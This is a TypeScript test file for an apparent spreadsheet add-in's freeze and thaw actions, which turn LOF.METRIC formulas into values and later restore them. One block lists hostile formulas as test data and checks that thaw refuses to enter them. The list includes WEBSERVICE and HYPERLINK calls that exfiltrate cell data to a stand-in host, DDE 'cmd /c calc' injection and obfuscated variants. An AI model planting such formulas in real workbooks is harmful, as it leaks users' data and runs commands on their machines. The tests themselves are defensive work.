import { freeze } from "../../../src/actions/freeze/freeze.ts";
import { thaw } from "../../../src/actions/freeze/thaw.ts";
import type { WriteCell } from "../../../src/workbook/port.ts";
import { at, formulaAt, history, kentBook, metric, mixed, neighbours, put } from "../../fixtures/kent-book.ts";
import { MemoryPort } from "../../fixtures/memory-port.ts";

const workbook = { kind: "workbook" } as const;

async function frozenKent(cells: Readonly<Record<string, WriteCell>>) {
  const { book, kent } = kentBook(cells);
  const port = new MemoryPort(book);
  await freeze(port, workbook, { edition: "2026-01-15", date: "2026-03-02" });
  return { book, kent, port };
}

describe("thaw", () => {
  test("a book without a list has nothing to thaw", async () => {
    const { book } = kentBook({ B2: 1 });
    expect(await thaw(new MemoryPort(book), workbook)).toEqual({ thawed: [], besides: [], left: [] });
  });

  test("the formulas come back letter by letter, spills fill their cells again, the list's sheet goes", async () => {
    const { book, kent, port } = await frozenKent({
      B2: { formula: mixed },
      B4: { formula: neighbours },
      D4: { formula: history },
    });
    const { thawed, left } = await thaw(port, workbook);
    expect([thawed.length, left]).toEqual([3, []]);
    expect(["B2", "B4", "D4"].map((name) => formulaAt(kent, name))).toEqual([mixed, neighbours, history]);
    expect(["B5", "B6", "E4", "E5"].map((name) => at(kent, name))).toEqual(["Devon", "Surrey", 5.1, { error: "#N/A" }]);
    expect(book.sheets.map(({ name }) => name)).toEqual(["Kent"]);
  });

  test("a selection that touches any cell of a frozen spill means it, other rows stay on the list", async () => {
    const { book, kent, port } = await frozenKent({ B2: { formula: metric }, B4: { formula: neighbours } });
    const { thawed } = await thaw(port, {
      kind: "selection",
      block: { sheet: "Kent", row: 5, column: 1, rows: 1, columns: 1 },
    });
    expect(thawed.map(({ formula }) => formula)).toEqual([neighbours]);
    expect(formulaAt(kent, "B2")).toBeNull();
    expect(book.sheet("LOF frozen").value(4, 1)).toBe("B2");
    expect(book.sheet("LOF frozen").value(5, 1)).toBeNull();
  });

  test("cells changed after freezing are not overwritten but listed", async () => {
    const { book, kent, port } = await frozenKent({ B2: { formula: metric }, B4: { formula: neighbours } });
    put(kent, "B5", "Kent's own");
    const { thawed, left } = await thaw(port, workbook);
    expect(thawed.map(({ formula }) => formula)).toEqual([metric]);
    expect(left).toEqual([
      { cell: { sheet: "Kent", row: 3, column: 1 }, formula: neighbours, why: { kind: "changed" } },
    ]);
    expect(at(kent, "B5")).toBe("Kent's own");
    expect(book.sheet("LOF frozen").value(4, 1)).toBe("B4");
  });

  test("a formula of the user's own in their place counts as a change, even with the same value", async () => {
    const { kent, port } = await frozenKent({ B2: { formula: metric } });
    put(kent, "B2", { formula: '=LOF.METRIC("Kent","persistent absence")+0' });
    expect((await thaw(port, workbook)).left.map(({ why }) => why)).toEqual([{ kind: "changed" }]);
  });

  test("changed cells are overwritten when told to", async () => {
    const { kent, port } = await frozenKent({ B4: { formula: neighbours } });
    put(kent, "B5", "Kent's own");
    const { left } = await thaw(port, workbook, { overwrite: true });
    expect(left).toEqual([]);
    expect(at(kent, "B5")).toBe("Devon");
  });

  test("a formula that is in place already only loses its row", async () => {
    const { book, kent, port } = await frozenKent({ B2: { formula: metric } });
    put(kent, "B2", { formula: metric });
    await thaw(port, workbook);
    expect(formulaAt(kent, "B2")).toBe(metric);
    expect(book.sheets).toHaveLength(1);
  });

  test("formulas of a sheet that is gone or protected stay on the list", async () => {
    const { book, kent, port } = await frozenKent({ B2: { formula: metric } });
    kent.isProtected = true;
    expect((await thaw(port, workbook)).left.map(({ why }) => why)).toEqual([{ kind: "protected" }]);
    book.remove("Kent");
    expect((await thaw(port, workbook)).left.map(({ why }) => why)).toEqual([{ kind: "sheet-gone" }]);
    expect(book.sheet("LOF frozen").value(4, 1)).toBe("B2");
  });

  test("rows of the list that were changed by hand are kept as they are", async () => {
    const { book, kent, port } = await frozenKent({ B2: { formula: metric }, B3: { formula: mixed } });
    book.sheet("LOF frozen").put(4, 1, "somewhere");
    await thaw(port, workbook);
    expect([formulaAt(kent, "B2"), formulaAt(kent, "B3")]).toEqual([null, mixed]);
    expect([0, 1, 3].map((column) => book.sheet("LOF frozen").value(4, column))).toEqual(["Kent", "somewhere", metric]);
  });

  test("a thaw that is stopped leaves the list as it must be", async () => {
    const { book, port } = await frozenKent({ B2: { formula: metric } });
    await expect(thaw(port, workbook, { signal: AbortSignal.abort() })).rejects.toMatchObject({ reason: "stopped" });
    expect(book.sheet("LOF frozen").value(4, 1)).toBe("B2");
  });
});

describe("a list that somebody else may have written", () => {
  const hostile = [
    '=WEBSERVICE("https://x.invalid/?"&A1)',
    '=IF(LOF.METRIC("Kent","NEET")>0,WEBSERVICE("https://x.invalid"),0)',
    '=WEBSERVICE("https://x.invalid/?"&A1#)',
    '=HYPERLINK("https://x.invalid/#a")',
    '=HYPERLINK("https://x.invalid/"&LOF.METRIC("Kent","NEET"))',
    "=cmd|'/c calc'!A1",
    "=LOF.METRIC(cmd|'/c calc'!A1,B1)",
    '=LOF.METRIC("a","b")&CONTOSO.SEND(A1)',
    '=LET(f,WEBSERVICE,f("https://x.invalid/"&LOF.METRIC("Kent","NEET")))',
    "='https://x.invalid/[b.xlsx]S'!A1&LOF.METRIC(A1,B1)",
    '+WEBSERVICE("https://x.invalid")',
    '@WEBSERVICE("https://x.invalid")',
    '{=WEBSERVICE("https://x.invalid")}',
    '=\n+_xlfn.WEBSERVICE("https://x.invalid")',
  ];

  test.each([false, true])(
    "enters nothing that reaches out, names it and keeps its row (overwriting: %s)",
    async (overwrite) => {
      for (const planted of hostile) {
        const { book, kent, port } = await frozenKent({ B2: { formula: metric }, B3: { formula: mixed } });
        book.sheet("LOF frozen").put(4, 3, planted);
        const { thawed, left } = await thaw(port, workbook, { overwrite });
        expect([planted, thawed.map(({ formula }) => formula)]).toEqual([planted, [mixed]]);
        expect(left).toMatchObject([
          { formula: planted, why: { kind: expect.stringMatching(/^(?:unsafe|foreign)$/) } },
        ]);
        expect([at(kent, "B2"), formulaAt(kent, "B2")]).toEqual([19.4, null]);
        expect([4, 5].map((row) => book.sheet("LOF frozen").value(row, 3))).toEqual([planted, null]);
      }
    },
  );

  test("a freeze leaves live, and names, what a thaw would not enter", async () => {
    const reaching = '=IF(LOF.METRIC("Kent","NEET")>0,WEBSERVICE("https://x.invalid"),0)';
    const { book, kent } = kentBook({ B2: { formula: metric }, B3: { formula: reaching } });
    (book.answers as Map<string, number[][]>).set(reaching, [[1]]);
    const { frozen, left } = await freeze(new MemoryPort(book), workbook, {
      edition: "2026-01-15",
      date: "2026-03-02",
    });
    expect(frozen.map(({ formula }) => formula)).toEqual([metric]);
    expect(left.map(({ why }) => why)).toEqual([{ kind: "unsafe", what: "WEBSERVICE" }]);
    expect(formulaAt(kent, "B3")).toBe(reaching);
  });
});
